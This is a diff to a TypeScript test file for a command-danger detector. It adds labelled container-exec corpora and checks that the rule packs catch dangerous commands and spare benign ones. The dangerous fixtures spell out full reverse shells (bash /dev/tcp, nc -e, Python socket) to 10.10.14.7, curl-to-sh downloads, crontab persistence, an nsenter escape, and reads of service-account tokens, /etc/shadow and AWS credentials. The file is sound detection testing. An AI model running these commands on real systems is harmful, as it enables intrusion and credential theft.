@@ -1,7 +1,7 @@
 import { createHash } from 'node:crypto';
 import { existsSync } from 'node:fs';
 import * as path from 'node:path';
-import { readCorpus, scoreCorpus, type CorpusScore } from './corpus';
+import { readCorpus, scoreCorpus, type CorpusLine, type CorpusScore } from './corpus';
 import { loadRules } from './schema';
 import type { RuleDef } from './types';
 
@@ -115,5 +115,40 @@ describe("the kit's own labelled corpus (rules/corpus)", () => {
     const s = scoreCorpus(rules, readCorpus(FRESH3_HOLDOUT));
     console.log(table('rules/corpus/fresh3-holdout.jsonl', s));
     expectFloors(s, { p: 0.946, r: 0.946, catP: 0, catR: 0.8, minPositives: 5 });
+  });
+});
+
+// Written before the lexer read inside a container's exec (then 3 of 10 dangerous caught, 0 false alarms): an
+// attacker with a cluster's credentials runs the same techniques through `kubectl exec`/`docker exec`.
+const CONTAINER_EXEC: CorpusLine[] = [
+  ['kubectl exec -it web-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'credential_access'],
+  [`docker exec -u 0 app bash -c 'bash -i >& /dev/tcp/10.10.14.7/4444 0>&1'`, 'reverse_shell'],
+  [`kubectl exec api-5d -- sh -c 'curl -s http://198.51.100.7/x.sh | sh'`, 'download_execute'],
+  ['podman exec -it c1 nsenter -t 1 -m -u -i -n sh', 'privesc_container'],
+  ['docker exec db cat /etc/shadow', 'credential_access'],
+  ['kubectl exec -it pod-1 -- nc -e /bin/sh 10.10.14.7 4444', 'reverse_shell'],
+  [`kubectl -n prod exec pod-1 -c app -- python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.10.14.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`, 'reverse_shell'],
+  [`docker exec -it web sh -c 'echo "* * * * * root curl -s http://198.51.100.7/a|sh" >> /etc/crontab'`, 'persistence_cron'],
+  ['nerdctl exec -u root c2 iptables -F', 'firewall_disable'],
+  [`docker exec app sh -c 'cat /root/.aws/credentials'`, 'credential_access'],
+].map(([command, category]) => ({ command: command as string, category: category as string, label: 'dangerous' as const }));
+const CONTAINER_EXEC_BENIGN: CorpusLine[] = [
+  ['docker exec -it web sh', 'privesc_container'],
+  ['kubectl exec -it pod -- bash', 'privesc_container'],
+  ['docker exec db pg_dump -U postgres app > app.sql', 'exfiltration'],
+  ['kubectl exec pod -- cat /etc/nginx/nginx.conf', 'credential_access'],
+  ['docker exec -it redis redis-cli ping', 'privesc_container'],
+  ['kubectl exec -n prod api-0 -- env', 'credential_access'],
+  ['docker exec web ls -la /var/www', 'recon_exposure'],
+  ['kubectl exec pod -- curl -s localhost:8080/healthz', 'download_execute'],
+  ['docker exec -w /app web npm run migrate', 'privesc_container'],
+  ['kubectl exec deploy/api -- tail -n 100 /var/log/app.log', 'log_wiping'],
+].map(([command, category]) => ({ command: command as string, category: category as string, label: 'benign' as const }));
+
+describe('built-in packs on commands run through a container CLI\'s exec', () => {
+  it('catch the techniques inside `kubectl exec`/`docker exec` as on the host, and leave ordinary container work alone', () => {
+    const s = scoreCorpus(rules, [...CONTAINER_EXEC, ...CONTAINER_EXEC_BENIGN]);
+    console.log(`${table('container exec', s)}\n${detail(s)}`);
+    expect({ missed: s.misses.map((m) => m.command), falseAlarms: s.falseAlarms.map((m) => m.command) }).toEqual({ missed: [], falseAlarms: [] });
   });
 });
